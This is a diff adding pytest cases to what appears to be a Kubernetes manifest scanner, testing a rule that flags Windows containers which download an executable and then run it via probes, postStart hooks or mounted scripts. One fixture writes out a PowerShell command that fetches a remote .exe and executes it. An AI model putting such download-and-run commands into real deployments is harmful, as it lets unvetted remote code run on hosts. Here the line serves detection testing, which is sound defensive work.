@@ -260,6 +260,35 @@ def test_what_an_init_container_downloads(text: str, reported: bool) -> None:
     assert all(each.field.startswith("spec.initContainers[0].command") for each in findings)
 
 
+@pytest.mark.parametrize("place", ["C:\\k\\a.exe", "C:\\hpc\\a.exe", "$env:CONTAINER_SANDBOX_MOUNT_POINT\\a.exe"])
+@pytest.mark.parametrize(
+    ("field", "later"),
+    [
+        ("startupProbe", {"exec": {"command": ["powershell", "-c", "& {}"]}}),
+        ("lifecycle", {"postStart": {"exec": {"command": ["powershell", "-c", "& {}"]}}}),
+    ],
+)
+@pytest.mark.parametrize("kind", ["containers", "initContainers"])
+def test_what_a_container_downloads_and_runs_later_itself(
+    kind: str, field: str, later: dict[str, Any], place: str
+) -> None:
+    runs = json.loads(json.dumps(later).replace("{}", json.dumps(place)[1:-1]))
+    container = {"name": "a", "image": "registry.example/a:1.0.0", "command": download(place), field: runs}
+    other = {"name": "b", "image": "registry.example/a:1.0.0", "command": ["b.exe"]}
+    findings = scan_text(pod({"containers": [other], kind: [container]}), NEW).findings
+    [finding] = (each for each in findings if each.rule == "HPC411")
+    assert (finding.container, finding.label) == ("a", "runs what it downloads")
+    assert [other.label for other in finding.related] == ["run here"]
+
+
+def test_what_a_mounted_script_runs_of_the_command_s_download_is_told_once() -> None:
+    config = {**SCRIPT, "data": {"run.ps1": "& C:\\k\\a.exe"}}
+    line = "powershell iwr https://x/a.exe -OutFile C:\\k\\a.exe; C:/scripts/run.ps1"
+    text = f"{json.dumps(config)}\n---\n{mounting(line)}\n"
+    [finding] = (each for each in scan_text(text, NEW).findings if each.rule == "HPC411")
+    assert (finding.label, [other.label for other in finding.related]) == ("runs what it downloads", ["the script"])
+
+
 @pytest.mark.parametrize(
     ("script", "said"),
     [
